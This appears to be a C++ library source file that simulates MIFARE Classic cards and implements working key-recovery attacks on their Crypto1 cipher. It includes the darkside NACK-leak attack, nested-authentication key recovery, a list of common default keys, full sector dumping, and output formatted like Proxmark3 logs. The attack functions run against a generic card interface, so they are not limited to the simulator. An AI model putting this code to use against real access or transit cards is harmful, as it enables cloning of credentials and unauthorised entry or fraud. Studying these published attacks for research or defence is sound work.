#include "rfidforge/mifare.hpp"

#include <algorithm>
#include <cstdarg>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <stdexcept>
#include <unordered_set>

namespace rfidforge::mifare {

namespace {

inline uint8_t wire_byte(uint32_t w, int j) {
    return (uint8_t)(w >> (24 - 8 * j));
}

inline uint8_t odd_parity8(uint8_t b) {
    return (uint8_t)(parity32(b) ^ 1);
}

inline uint32_t xs32(uint32_t& s) {
    s ^= s << 13;
    s ^= s >> 17;
    s ^= s << 5;
    return s;
}

void check_sector(int sector) {
    if (sector < 0 || sector >= kSectorCount)
        throw std::out_of_range("sector index out of range");
}

void check_block(int sector, int block) {
    check_sector(sector);
    if (block < 0 || block >= kBlocksPerSector)
        throw std::out_of_range("block index out of range");
}

void appendf(std::string& out, const char* fmt, ...)
    __attribute__((format(printf, 2, 3)));

void appendf(std::string& out, const char* fmt, ...) {
    char buf[256];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(buf, sizeof buf, fmt, ap);
    va_end(ap);
    out += buf;
}

}  // namespace

// --- card model -----------------------------------------------------------

MifareCard::MifareCard(uint32_t uid, uint16_t nonce_seed) : uid_(uid) {
    nonce_state_ = nonce_seed ? nonce_seed : 1;  // 0 is the generator's fixed point
    nonce_seed_ = nonce_state_;
    for (int j = 0; j < 4; ++j)
        data_[j] = wire_byte(uid, j);
    data_[4] = (uint8_t)(data_[0] ^ data_[1] ^ data_[2] ^ data_[3]);
    static const uint8_t mfr[11] = {0x88, 0x04, 0x00, 0x46, 0x59, 0x25,
                                    0x58, 0x49, 0x10, 0x23, 0x02};
    std::memcpy(&data_[5], mfr, sizeof mfr);
    for (int s = 0; s < kSectorCount; ++s) {
        set_key(s, KeyType::A, 0xFFFFFFFFFFFFull);
        set_key(s, KeyType::B, 0xFFFFFFFFFFFFull);
        uint8_t* acc = &data_[(s * 4 + 3) * 16 + 6];
        acc[0] = 0xFF;
        acc[1] = 0x07;
        acc[2] = 0x80;
        acc[3] = 0x69;
    }
}

void MifareCard::set_key(int sector, KeyType type, uint64_t key) {
    check_sector(sector);
    if (key >> 48)
        throw std::invalid_argument("key wider than 48 bits");
    uint8_t* p = &data_[(sector * 4 + 3) * 16 + (type == KeyType::A ? 0 : 10)];
    for (int j = 0; j < 6; ++j)
        p[j] = (uint8_t)(key >> (40 - 8 * j));
}

uint64_t MifareCard::key(int sector, KeyType type) const {
    check_sector(sector);
    const uint8_t* p =
        &data_[(sector * 4 + 3) * 16 + (type == KeyType::A ? 0 : 10)];
    uint64_t k = 0;
    for (int j = 0; j < 6; ++j)
        k = k << 8 | p[j];
    return k;
}

void MifareCard::set_block(int sector, int block,
                           const std::array<uint8_t, 16>& v) {
    check_block(sector, block);
    if (sector == 0 && block == 0)
        throw std::invalid_argument("manufacturer block is read-only");
    std::memcpy(&data_[(sector * 4 + block) * 16], v.data(), 16);
}

std::array<uint8_t, 16> MifareCard::block(int sector, int block) const {
    check_block(sector, block);
    std::array<uint8_t, 16> out;
    std::memcpy(out.data(), &data_[(sector * 4 + block) * 16], 16);
    return out;
}

void MifareCard::set_nonce_jitter(uint16_t base, uint16_t spread) {
    jitter_base_ = base;
    jitter_spread_ = spread;
}

uint32_t MifareCard::draw_nonce() {
    uint32_t nt = 0;
    for (int t = 0; t < 32; ++t) {
        nt |= (uint32_t)(nonce_state_ >> 15) << (t ^ 24);
        nonce_state_ = step16(nonce_state_);
    }
    return nt;
}

void MifareCard::advance_idle() {
    uint32_t n = jitter_base_;
    if (jitter_spread_)
        n += xs32(jitter_rng_) % jitter_spread_;
    while (n--)
        nonce_state_ = step16(nonce_state_);
}

void MifareCard::reset_field() {
    nonce_state_ = nonce_seed_;
    pending_.active = false;
    session_.live = false;
    just_reset_ = true;
}

void MifareCard::begin_auth(int sector, KeyType type, uint32_t nt) {
    pending_.active = true;
    pending_.sector = sector;
    pending_.nt = nt;
    pending_.cipher = crypto1_init(key(sector, type));
    crypto1_word(pending_.cipher, uid_ ^ nt, 0);
}

uint32_t MifareCard::start_auth(int sector, KeyType type) {
    check_sector(sector);
    pending_.active = false;
    session_.live = false;
    if (!just_reset_)
        advance_idle();
    just_reset_ = false;
    uint32_t nt = draw_nonce();
    begin_auth(sector, type, nt);
    return nt;
}

ReaderResponseResult MifareCard::reader_response(
    const std::array<uint8_t, 8>& ct, uint8_t parity) {
    ReaderResponseResult r;
    if (!pending_.active)
        return r;
    Crypto1State s = pending_.cipher;
    bool parity_ok = true;
    uint32_t nr_pl = 0, ar_pl = 0;
    for (int j = 0; j < 8; ++j) {
        // nR feeds the register; the answer words ride on free-running
        // keystream. The parity bit reuses the next keystream bit.
        uint8_t ksb = j < 4 ? crypto1_byte(s, ct[j], 1) : crypto1_byte(s, 0, 0);
        uint8_t plain = (uint8_t)(ct[j] ^ ksb);
        uint8_t next_ks = (uint8_t)crypto1_filter(s.odd);
        parity_ok &= ((parity >> j & 1) == (odd_parity8(plain) ^ next_ks));
        if (j < 4)
            nr_pl |= (uint32_t)plain << (24 - 8 * j);
        else
            ar_pl |= (uint32_t)plain << (24 - 8 * (j - 4));
    }
    (void)nr_pl;
    uint32_t nt = pending_.nt;
    int sector = pending_.sector;
    pending_.active = false;
    if (!parity_ok)
        return r;  // transmission dropped
    if (ar_pl == suc2(nt)) {
        uint32_t ks3 = crypto1_word(s, 0, 0);
        r.kind = ReaderResponseResult::Kind::TAG_AUTH;
        r.at_ct = suc3(nt) ^ ks3;
        session_.live = true;
        session_.sector = sector;
        session_.cipher = s;
    } else {
        r.kind = ReaderResponseResult::Kind::NACK;
        uint8_t nib = 0;
        for (int t = 0; t < 4; ++t)
            nib |= (uint8_t)(crypto1_bit(s, 0, 0) << t);
        r.nack_ct = (uint8_t)(kNackValue ^ nib);
    }
    return r;
}

std::optional<NestedNonce> MifareCard::nested_auth(int sector, KeyType type) {
    check_sector(sector);
    if (!session_.live)
        return std::nullopt;
    session_.live = false;
    advance_idle();
    uint32_t nt2 = draw_nonce();
    Crypto1State c = crypto1_init(key(sector, type));
    uint32_t ks0 = crypto1_word(c, uid_ ^ nt2, 0);
    NestedNonce nn;
    nn.nt_ct = nt2 ^ ks0;
    for (int j = 0; j < 4; ++j) {
        uint8_t next_ks = j < 3 ? (uint8_t)(wire_byte(ks0, j + 1) & 1)
                                : (uint8_t)crypto1_filter(c.odd);
        nn.parity |= (uint8_t)((odd_parity8(wire_byte(nt2, j)) ^ next_ks) << j);
    }
    pending_.active = true;
    pending_.sector = sector;
    pending_.nt = nt2;
    pending_.cipher = c;
    return nn;
}

std::optional<std::array<uint8_t, 16>> MifareCard::read_block_ct(int block) {
    if (block < 0 || block >= kSectorCount * kBlocksPerSector)
        throw std::out_of_range("block index out of range");
    if (!session_.live || block / kBlocksPerSector != session_.sector)
        return std::nullopt;
    std::array<uint8_t, 16> ct;
    for (int k = 0; k < kBlockSize; ++k)
        ct[k] = (uint8_t)(data_[block * 16 + k] ^
                          crypto1_byte(session_.cipher, 0, 0));
    return ct;
}

// --- reader side ----------------------------------------------------------

AuthTranscript authenticate(CardOracle& card, int sector, KeyType type,
                            uint64_t key, uint32_t nr, AuthSession* session) {
    AuthTranscript t;
    t.uid = card.uid();
    t.sector = sector;
    t.type = type;
    t.nt = card.start_auth(sector, type);

    Crypto1State s = crypto1_init(key);
    crypto1_word(s, t.uid ^ t.nt, 0);
    uint32_t ks1 = crypto1_word(s, nr, 0);
    uint32_t ar = suc2(t.nt);
    uint32_t ks2 = crypto1_word(s, 0, 0);
    t.nr_ct = nr ^ ks1;
    t.ar_ct = ar ^ ks2;

    std::array<uint8_t, 8> ct;
    for (int j = 0; j < 4; ++j) {
        ct[j] = wire_byte(t.nr_ct, j);
        ct[4 + j] = wire_byte(t.ar_ct, j);
    }
    for (int j = 0; j < 8; ++j) {
        uint8_t plain = j < 4 ? wire_byte(nr, j) : wire_byte(ar, j - 4);
        uint8_t ks_next =
            j < 3   ? (uint8_t)(wire_byte(ks1, j + 1) & 1)
            : j == 3 ? (uint8_t)(wire_byte(ks2, 0) & 1)
            : j < 7 ? (uint8_t)(wire_byte(ks2, j - 3) & 1)
                    : (uint8_t)crypto1_filter(s.odd);
        t.reader_parity |=
            (uint8_t)((odd_parity8(plain) ^ ks_next) << j);
    }

    ReaderResponseResult rr = card.reader_response(ct, t.reader_parity);
    if (rr.kind == ReaderResponseResult::Kind::TAG_AUTH) {
        uint32_t ks3 = crypto1_word(s, 0, 0);
        if ((rr.at_ct ^ ks3) == suc3(t.nt)) {
            t.success = true;
            t.at_ct = rr.at_ct;
            if (session) {
                session->live = true;
                session->sector = sector;
                session->cipher = s;
            }
        }
    } else if (rr.kind == ReaderResponseResult::Kind::NACK) {
        t.nacked = true;
        t.nack_ct = rr.nack_ct;
    }
    return t;
}

std::optional<std::array<uint8_t, 16>> read_block(CardOracle& card,
                                                  AuthSession& session,
                                                  int block) {
    if (!session.live || block / kBlocksPerSector != session.sector)
        return std::nullopt;
    auto ct = card.read_block_ct(block);
    if (!ct) {
        session.live = false;
        return std::nullopt;
    }
    std::array<uint8_t, 16> out;
    for (int k = 0; k < kBlockSize; ++k)
        out[k] = (uint8_t)((*ct)[k] ^ crypto1_byte(session.cipher, 0, 0));
    return out;
}

std::optional<uint8_t> darkside_leak(CardOracle& card, int sector,
                                     KeyType type,
                                     const std::array<uint8_t, 8>& response_ct,
                                     uint8_t parity_guess) {
    card.reset_field();
    card.start_auth(sector, type);
    ReaderResponseResult r = card.reader_response(response_ct, parity_guess);
    if (r.kind == ReaderResponseResult::Kind::NACK)
        return r.nack_ct;
    return std::nullopt;
}

// --- fixed-nonce key recovery ----------------------------------------------
//
// The reader answer is replayed with the last nR byte changed in steps of
// 0x20; only wire bits 29..31 differ, so the register images at the NACK
// point differ by a small, input-determined XOR as long as the two filter
// outputs emitted while those bits shift in stay unchanged (when they do
// not, no candidate survives and the table is retried with a fresh answer).
// The four NACK keystream bits per variant then pin the state at the NACK
// point, which is searched half-register at a time and rolled back to the
// key.

namespace {

struct DiffRow {
    uint8_t nib = 0;     // ks3 nibble observed for this variant
    uint8_t parity = 0;  // accepted parity guess
};

struct LeakTable {
    uint32_t nt = 0;
    uint32_t nr_ct = 0, ar_ct = 0;
    std::array<DiffRow, 8> rows;
};

// XOR image, at the NACK point, of flipping nR-byte-3 bits `d` (filter
// output differences assumed away; exact from step 32 on since the answer
// words feed nothing).
void delta_image(uint8_t d, uint32_t& dodd, uint32_t& deven) {
    dodd = deven = 0;
    for (int t = 24; t < 64; ++t) {
        uint32_t din = t < 32 ? (uint32_t)(d >> (t - 24)) & 1 : 0;
        uint32_t dfb = din ^ parity32(dodd & kLfsrPolyOdd) ^
                       parity32(deven & kLfsrPolyEven);
        uint32_t nodd = (deven << 1 | dfb) & 0xFFFFFF;
        deven = dodd;
        dodd = nodd;
    }
}

struct OddCand {
    uint32_t w;
    uint8_t umask;  // feasible values of par(even & (PO>>1))
    uint8_t v, m;
};

struct EvenCand {
    uint32_t w;
    uint8_t v;      // assumed par(odd & PO)
    uint8_t mmask;  // feasible values of par(odd & (PO>>1))
    uint8_t u;
};

std::vector<Crypto1State> search_nack_states(const LeakTable& t) {
    const uint8_t* lut = crypto1_filter_table();
    uint32_t lodd[8], leven[8];
    uint8_t kn_v[8], kn_u[8], kn_m[8], o[8][4];
    for (int i = 0; i < 8; ++i) {
        delta_image((uint8_t)(i << 5), lodd[i], leven[i]);
        kn_v[i] = (uint8_t)parity32(lodd[i] & kLfsrPolyOdd);
        kn_u[i] = (uint8_t)parity32(leven[i] & (kLfsrPolyOdd >> 1));
        kn_m[i] = (uint8_t)parity32(lodd[i] & (kLfsrPolyOdd >> 1));
        for (int b = 0; b < 4; ++b)
            o[i][b] = (uint8_t)(t.rows[i].nib >> b & 1);
    }

    std::vector<OddCand> odds;
    for (uint32_t w = 0; w < (1u << 24); ++w) {
        bool ok = true;
        for (int i = 0; i < 8 && ok; ++i)
            ok = lut[(w ^ lodd[i]) & 0xFFFFF] == o[i][0];
        if (!ok)
            continue;
        uint8_t umask = 0;
        for (uint8_t u = 0; u < 2; ++u) {
            bool pass = true;
            for (int i = 0; i < 8 && pass; ++i) {
                uint32_t o64 = w ^ lodd[i];
                uint32_t fb1 = u ^ kn_u[i] ^ parity32(o64 & kLfsrPolyEven);
                pass = lut[(o64 << 1 | fb1) & 0xFFFFF] == o[i][2];
            }
            if (pass)
                umask |= (uint8_t)(1 << u);
        }
        if (umask)
            odds.push_back({w, umask,
                            (uint8_t)parity32(w & kLfsrPolyOdd),
                            (uint8_t)parity32(w & (kLfsrPolyOdd >> 1))});
    }

    std::vector<EvenCand> evens[2][2];  // indexed by (v, u)
    for (uint32_t w = 0; w < (1u << 24); ++w) {
        uint32_t e64[8], pe[8];
        for (int i = 0; i < 8; ++i) {
            e64[i] = w ^ leven[i];
            pe[i] = parity32(e64[i] & kLfsrPolyEven);
        }
        for (uint8_t v = 0; v < 2; ++v) {
            bool ok = true;
            uint32_t o65w[8];
            for (int i = 0; i < 8 && ok; ++i) {
                uint32_t fb0 = v ^ kn_v[i] ^ pe[i];
                o65w[i] = (e64[i] << 1 | fb0) & 0xFFFFFF;
                ok = lut[o65w[i] & 0xFFFFF] == o[i][1];
            }
            if (!ok)
                continue;
            uint8_t mmask = 0;
            for (uint8_t m = 0; m < 2; ++m) {
                bool pass = true;
                for (int i = 0; i < 8 && pass; ++i) {
                    uint32_t fb2 =
                        m ^ kn_m[i] ^ parity32(o65w[i] & kLfsrPolyEven);
                    pass = lut[(o65w[i] << 1 | fb2) & 0xFFFFF] == o[i][3];
                }
                if (pass)
                    mmask |= (uint8_t)(1 << m);
            }
            if (mmask) {
                uint8_t u = (uint8_t)parity32(w & (kLfsrPolyOdd >> 1));
                evens[v][u].push_back({w, v, mmask, u});
            }
        }
    }

    std::vector<Crypto1State> found;
    for (const OddCand& oc : odds) {
        for (uint8_t u = 0; u < 2; ++u) {
            if (!(oc.umask >> u & 1))
                continue;
            for (const EvenCand& ec : evens[oc.v][u]) {
                if (!(ec.mmask >> oc.m & 1))
                    continue;
                bool ok = true;
                for (int i = 0; i < 8 && ok; ++i) {
                    Crypto1State s{oc.w ^ lodd[i], ec.w ^ leven[i]};
                    for (int b = 0; b < 4 && ok; ++b)
                        ok = crypto1_bit(s, 0, 0) == o[i][b];
                }
                if (ok)
                    found.push_back({oc.w, ec.w});
            }
        }
    }
    return found;
}

// Parity byte + NACK nibble the card would produce for this key and answer.
void simulate_card_response(uint64_t key, uint32_t uid, uint32_t nt,
                            uint32_t nr_ct, uint32_t ar_ct, uint8_t& parity,
                            uint8_t& nib) {
    Crypto1State s = crypto1_init(key);
    crypto1_word(s, uid ^ nt, 0);
    parity = 0;
    for (int j = 0; j < 8; ++j) {
        uint8_t ct = j < 4 ? wire_byte(nr_ct, j) : wire_byte(ar_ct, j - 4);
        uint8_t ksb = j < 4 ? crypto1_byte(s, ct, 1) : crypto1_byte(s, 0, 0);
        uint8_t plain = (uint8_t)(ct ^ ksb);
        parity |= (uint8_t)((odd_parity8(plain) ^ crypto1_filter(s.odd)) << j);
    }
    nib = 0;
    for (int b = 0; b < 4; ++b)
        nib |= (uint8_t)(crypto1_bit(s, 0, 0) << b);
}

std::vector<uint64_t> darkside_candidates(const LeakTable& t, uint32_t uid) {
    std::vector<uint64_t> keys;
    for (const Crypto1State& w : search_nack_states(t)) {
        Crypto1State s = w;
        crypto1_rollback_word(s, 0, 0);
        crypto1_rollback_word(s, t.nr_ct, 1);
        crypto1_rollback_word(s, uid ^ t.nt, 0);
        uint64_t key = crypto1_key(s);

        bool ok = true;
        for (int i = 0; i < 8 && ok; ++i) {
            uint8_t parity, nib;
            simulate_card_response(key, uid, t.nt,
                                   t.nr_ct ^ (uint32_t)(i << 5), t.ar_ct,
                                   parity, nib);
            ok = parity == t.rows[i].parity && nib == t.rows[i].nib;
        }
        if (ok)
            keys.push_back(key);
    }
    std::sort(keys.begin(), keys.end());
    keys.erase(std::unique(keys.begin(), keys.end()), keys.end());
    return keys;
}

void append_table_log(std::string& log, const LeakTable& t, uint32_t uid) {
    uint64_t par64 = 0, ks64 = 0;
    for (int i = 0; i < 8; ++i) {
        par64 |= (uint64_t)t.rows[i].parity << (56 - 8 * i);
        ks64 |= (uint64_t)t.rows[i].nib << (56 - 8 * i);
    }
    log += "-----\n";
    log += "Executing command. It may take up to 30 min.\n";
    log += "Press the key on the proxmark3 device to abort both proxmark3 "
           "and client.\n";
    log += "-----\n";
    log += ".....#db# COMMAND mifare FINISHED\n";
    log += "isOK:01\n\n";
    appendf(log, "uid(%08x) nt(%08x) par(%016llx) ks(%016llx)\n\n", uid, t.nt,
            (unsigned long long)par64, (unsigned long long)ks64);
    log += "|diff|(nr) |ks3|ks3^5|parity |\n";
    log += "+-----+\n";
    for (int i = 0; i < 8; ++i) {
        appendf(log, "| %02x |%08x| %x | %x |", i << 5,
                t.nr_ct ^ (uint32_t)(i << 5), t.rows[i].nib,
                t.rows[i].nib ^ kNackValue);
        for (int j = 0; j < 8; ++j)
            appendf(log, "%d%s", t.rows[i].parity >> j & 1,
                    j < 7 ? "," : "|\n");
    }
}

}  // namespace

DarksideResult darkside_attack(CardOracle& card, int sector, KeyType type,
                               const DarksideOptions& opt) {
    DarksideResult res;
    uint32_t rng = opt.rng_seed ? opt.rng_seed : 1;
    uint32_t uid = card.uid();

    auto attempt = [&](uint32_t nr_ct, uint32_t ar_ct, uint8_t parity,
                       uint32_t& nt_seen) -> std::optional<uint8_t> {
        ++res.oracle_calls;
        card.reset_field();
        nt_seen = card.start_auth(sector, type);
        std::array<uint8_t, 8> ct;
        for (int j = 0; j < 4; ++j) {
            ct[j] = wire_byte(nr_ct, j);
            ct[4 + j] = wire_byte(ar_ct, j);
        }
        ReaderResponseResult r = card.reader_response(ct, parity);
        if (r.kind == ReaderResponseResult::Kind::NACK)
            return (uint8_t)(r.nack_ct ^ kNackValue);
        return std::nullopt;
    };

    while (res.oracle_calls < opt.max_oracle_calls) {
        LeakTable t;
        t.nr_ct = xs32(rng) & ~0xFFu;  // last byte reserved for the variants
        t.ar_ct = xs32(rng);

        bool have_base = false;
        for (uint32_t g = 0; g < 256 && !have_base &&
                             res.oracle_calls < opt.max_oracle_calls;
             ++g) {
            uint32_t nt = 0;
            auto nib = attempt(t.nr_ct, t.ar_ct, (uint8_t)g, nt);
            if (nib) {
                t.nt = nt;
                t.rows[0] = {*nib, (uint8_t)g};
                have_base = true;
            }
        }
        if (!have_base)
            continue;

        bool complete = true;
        for (int i = 1; i < 8 && complete; ++i) {
            complete = false;
            for (uint32_t g5 = 0; g5 < 32 &&
                                  res.oracle_calls < opt.max_oracle_calls;
                 ++g5) {
                uint8_t parity =
                    (uint8_t)((t.rows[0].parity & 0x07) | g5 << 3);
                uint32_t nt = 0;
                auto nib = attempt(t.nr_ct ^ (uint32_t)(i << 5), t.ar_ct,
                                   parity, nt);
                if (nib && nt == t.nt) {
                    t.rows[i] = {*nib, parity};
                    complete = true;
                    break;
                }
            }
        }
        if (!complete)
            continue;

        ++res.tables;
        append_table_log(res.log, t, uid);

        std::vector<uint64_t> cands = darkside_candidates(t, uid);
        uint64_t confirmed = 0;
        bool found = false;
        for (uint64_t k : cands) {
            res.oracle_calls += 2;
            if (authenticate(card, sector, type, k, xs32(rng)).success) {
                confirmed = k;
                found = true;
                break;
            }
        }
        if (!found) {
            appendf(res.log,
                    "key not found (lfsr_common_prefix list is null). "
                    "Nt -%08x\n",
                    t.nt);
            continue;
        }

        res.log += "#db# COMMAND mifare FINISHED\n";
        for (size_t i = 0; i < cands.size(); ++i)
            appendf(res.log, "%012llx%s", (unsigned long long)cands[i],
                    i + 1 < cands.size() ? "|" : "\n");
        res.log += "-----\n";
        appendf(res.log, "key found:%012llx\n",
                (unsigned long long)confirmed);
        appendf(res.log, "Found valid key:%012llx\n",
                (unsigned long long)confirmed);
        res.key = confirmed;
        return res;
    }
    throw std::runtime_error(
        "darkside: oracle budget exhausted before a key was confirmed");
}

// --- follow-up (nested) key recovery ---------------------------------------

namespace {

struct NestedCollection {
    uint32_t nt1 = 0;  // plaintext nonce of the known-key auth
    NestedNonce nn;    // encrypted follow-up nonce for the target sector
};

std::optional<NestedCollection> collect_nested(CardOracle& card,
                                               int known_sector,
                                               KeyType known_type,
                                               uint64_t known_key, int sector,
                                               KeyType type, uint32_t nr,
                                               uint64_t& calls) {
    calls += 2;
    AuthTranscript t = authenticate(card, known_sector, known_type, known_key,
                                    nr);
    if (!t.success)
        return std::nullopt;
    ++calls;
    auto nn = card.nested_auth(sector, type);
    if (!nn)
        return std::nullopt;
    return NestedCollection{t.nt, *nn};
}

// Distance candidates that are consistent with the three usable parity bits
// of the encrypted nonce.
std::vector<uint32_t> distance_candidates(const NestedCollection& c,
                                          uint32_t dmin, uint32_t dmax) {
    std::vector<uint32_t> out;
    for (uint32_t d = dmin; d <= dmax; ++d) {
        uint32_t nt2 = prng_successor(c.nt1, d);
        uint32_t ks0 = c.nn.nt_ct ^ nt2;
        bool ok = true;
        for (int j = 0; j < 3 && ok; ++j) {
            uint8_t bit = (uint8_t)(odd_parity8(wire_byte(nt2, j)) ^
                                    (wire_byte(ks0, j + 1) & 1));
            ok = bit == (c.nn.parity >> j & 1);
        }
        if (ok)
            out.push_back(d);
    }
    return out;
}

bool key_matches_collection(uint64_t key, uint32_t uid,
                            const NestedCollection& c,
                            const std::vector<uint32_t>& dists) {
    for (uint32_t d : dists) {
        uint32_t nt2 = prng_successor(c.nt1, d);
        Crypto1State s = crypto1_init(key);
        uint32_t ks0 = crypto1_word(s, uid ^ nt2, 0);
        if ((nt2 ^ ks0) == c.nn.nt_ct)
            return true;
    }
    return false;
}

}  // namespace

NestedResult nested_attack(CardOracle& card, int known_sector,
                           KeyType known_type, uint64_t known_key,
                           const NestedOptions& opt) {
    NestedResult res;
    uint32_t rng = opt.rng_seed ? opt.rng_seed : 1;
    uint32_t uid = card.uid();

    auto set_slot = [&](int s, KeyType t, uint64_t key) {
        if (t == KeyType::A) {
            res.sectors[s].key_a = key;
            res.sectors[s].res_a = true;
        } else {
            res.sectors[s].key_b = key;
            res.sectors[s].res_b = true;
        }
    };
    auto slot_done = [&](int s, KeyType t) {
        return t == KeyType::A ? res.sectors[s].res_a : res.sectors[s].res_b;
    };

    res.oracle_calls += 2;
    if (!authenticate(card, known_sector, known_type, known_key, xs32(rng))
             .success)
        throw std::invalid_argument("nested: known key rejected by card");
    set_slot(known_sector, known_type, known_key);

    static const uint64_t kDefaultKeys[] = {
        0xFFFFFFFFFFFFull, 0xA0A1A2A3A4A5ull, 0xB0B1B2B3B4B5ull,
        0x000000000000ull, 0xD3F7D3F7D3F7ull, 0x4D3A99C351DDull,
        0x1A982C7E459Aull, 0xAABBCCDDEEFFull};
    for (int s = 0; s < kSectorCount; ++s)
        for (KeyType kt : {KeyType::A, KeyType::B}) {
            if (slot_done(s, kt))
                continue;
            for (uint64_t k : kDefaultKeys) {
                res.oracle_calls += 2;
                if (authenticate(card, s, kt, k, xs32(rng)).success) {
                    set_slot(s, kt, k);
                    break;
                }
            }
        }

    bool all_done = true;
    for (int s = 0; s < kSectorCount && all_done; ++s)
        all_done = res.sectors[s].res_a && res.sectors[s].res_b;
    if (all_done)
        return res;

    // Measure the card's nonce advance between a fresh auth and the
    // follow-up auth, against the known sector where it can be decrypted.
    uint32_t dmin = 0, dmax = 0;
    bool calibrated = false;
    for (int round = 0; round < 6; ++round) {
        auto c = collect_nested(card, known_sector, known_type, known_key,
                                known_sector, known_type, xs32(rng),
                                res.oracle_calls);
        if (!c)
            continue;
        for (uint32_t d = 1; d <= opt.max_distance_window; ++d) {
            uint32_t nt2 = prng_successor(c->nt1, d);
            Crypto1State s = crypto1_init(known_key);
            uint32_t ks0 = crypto1_word(s, uid ^ nt2, 0);
            if ((nt2 ^ ks0) == c->nn.nt_ct) {
                if (!calibrated) {
                    dmin = dmax = d;
                    calibrated = true;
                } else {
                    dmin = std::min(dmin, d);
                    dmax = std::max(dmax, d);
                }
                break;
            }
        }
    }
    if (!calibrated)
        return res;  // advance outside the search window: sectors stay unsolved
    dmin = dmin > 12 ? dmin - 12 : 1;
    dmax = std::min(dmax + 12, opt.max_distance_window);

    for (int s = 0; s < kSectorCount; ++s)
        for (KeyType kt : {KeyType::A, KeyType::B}) {
            if (slot_done(s, kt))
                continue;
            for (int attempt = 0; attempt < opt.max_attempts_per_key;
                 ++attempt) {
                ++res.iterations;
                auto c1 = collect_nested(card, known_sector, known_type,
                                         known_key, s, kt, xs32(rng),
                                         res.oracle_calls);
                auto c2 = collect_nested(card, known_sector, known_type,
                                         known_key, s, kt, xs32(rng),
                                         res.oracle_calls);
                if (!c1 || !c2)
                    continue;

                std::vector<uint32_t> d2 = distance_candidates(*c2, dmin, dmax);
                if (d2.empty())
                    continue;

                std::vector<uint64_t> survivors;
                for (uint32_t d : distance_candidates(*c1, dmin, dmax)) {
                    uint32_t nt2 = prng_successor(c1->nt1, d);
                    uint32_t ks0 = c1->nn.nt_ct ^ nt2;
                    for (const Crypto1State& st :
                         recover_keystream32(ks0, uid ^ nt2)) {
                        uint64_t key = crypto1_key(st);
                        if (key_matches_collection(key, uid, *c2, d2))
                            survivors.push_back(key);
                    }
                }
                std::sort(survivors.begin(), survivors.end());
                survivors.erase(
                    std::unique(survivors.begin(), survivors.end()),
                    survivors.end());

                bool solved = false;
                for (uint64_t key : survivors) {
                    res.oracle_calls += 2;
                    if (authenticate(card, s, kt, key, xs32(rng)).success) {
                        set_slot(s, kt, key);
                        solved = true;
                        break;
                    }
                }
                if (solved)
                    break;
            }
        }
    return res;
}

// --- key tables and dumps ---------------------------------------------------

KeyTable key_table(const NestedResult& r) {
    KeyTable t;
    for (int s = 0; s < kSectorCount; ++s) {
        t.key_a[s] = r.sectors[s].key_a;
        t.key_b[s] = r.sectors[s].key_b;
    }
    return t;
}

KeyTable load_key_file(const std::string& path) {
    std::ifstream in(path);
    if (!in)
        throw std::runtime_error("cannot open key file: " + path);
    KeyTable t;
    std::string line;
    int n = 0;
    while (std::getline(in, line)) {
        while (!line.empty() && (line.back() == '\r' || line.back() == ' '))
            line.pop_back();
        if (line.empty())
            continue;
        if (n >= 2 * kSectorCount)
            throw std::runtime_error("key file has more than 32 keys");
        if (line.size() != 12 ||
            line.find_first_not_of("0123456789abcdefABCDEF") !=
                std::string::npos)
            throw std::runtime_error("bad key line in " + path + ": " + line);
        uint64_t k = std::stoull(line, nullptr, 16);
        if (n % 2 == 0)
            t.key_a[n / 2] = k;
        else
            t.key_b[n / 2] = k;
        ++n;
    }
    if (n != 2 * kSectorCount)
        throw std::runtime_error("key file must hold exactly 32 keys");
    return t;
}

void save_key_file(const std::string& path, const KeyTable& t) {
    std::ofstream out(path);
    if (!out)
        throw std::runtime_error("cannot write key file: " + path);
    char buf[16];
    for (int s = 0; s < kSectorCount; ++s) {
        snprintf(buf, sizeof buf, "%012llx\n", (unsigned long long)t.key_a[s]);
        out << buf;
        snprintf(buf, sizeof buf, "%012llx\n", (unsigned long long)t.key_b[s]);
        out << buf;
    }
}

CardDump dump_card(CardOracle& card, const KeyTable& keys) {
    CardDump d;
    for (int s = 0; s < kSectorCount; ++s) {
        AuthSession ses;
        if (!authenticate(card, s, KeyType::A, keys.key_a[s], 0x64756D70u,
                          &ses)
                 .success &&
            !authenticate(card, s, KeyType::B, keys.key_b[s], 0x64756D70u,
                          &ses)
                 .success)
            continue;
        bool ok = true;
        for (int b = 0; b < kBlocksPerSector && ok; ++b) {
            auto plain = read_block(card, ses, s * kBlocksPerSector + b);
            if (!plain) {
                ok = false;
                break;
            }
            std::memcpy(&d.bytes[(s * kBlocksPerSector + b) * 16],
                        plain->data(), 16);
        }
        d.sector_ok[s] = ok;
        if (!ok)
            std::memset(&d.bytes[s * kBlocksPerSector * 16], 0,
                        kBlocksPerSector * 16);
    }
    return d;
}

std::string render_key_table(const NestedResult& r) {
    std::string out = "sec\tkey A\tres\tkey B\tres\n";
    for (int s = 0; s < kSectorCount; ++s)
        appendf(out, "%03d\t%012llx\t%d\t%012llx\t%d\n", s,
                (unsigned long long)r.sectors[s].key_a,
                r.sectors[s].res_a ? 1 : 0,
                (unsigned long long)r.sectors[s].key_b,
                r.sectors[s].res_b ? 1 : 0);
    return out;
}

std::string render_nested_log(const NestedResult& r, int known_sector,
                              KeyType known_type, uint64_t known_key) {
    std::string out;
    appendf(out, "-- block no:%02d key type:%02d key:", known_sector * 4,
            known_type == KeyType::A ? 0 : 1);
    for (int j = 0; j < 6; ++j)
        appendf(out, "%02x%s", (unsigned)(known_key >> (40 - 8 * j) & 0xFF),
                j < 5 ? " " : "");
    out += " etrans:0\n";
    out += "Block shift=0\n";
    out += "Testing known keys. Sector count=16\n";
    out += "nested...\n";
    appendf(out, "Iterations count: %u\n", r.iterations);
    out += "\n";
    out += render_key_table(r);
    return out;
}

}  // namespace rfidforge::mifare
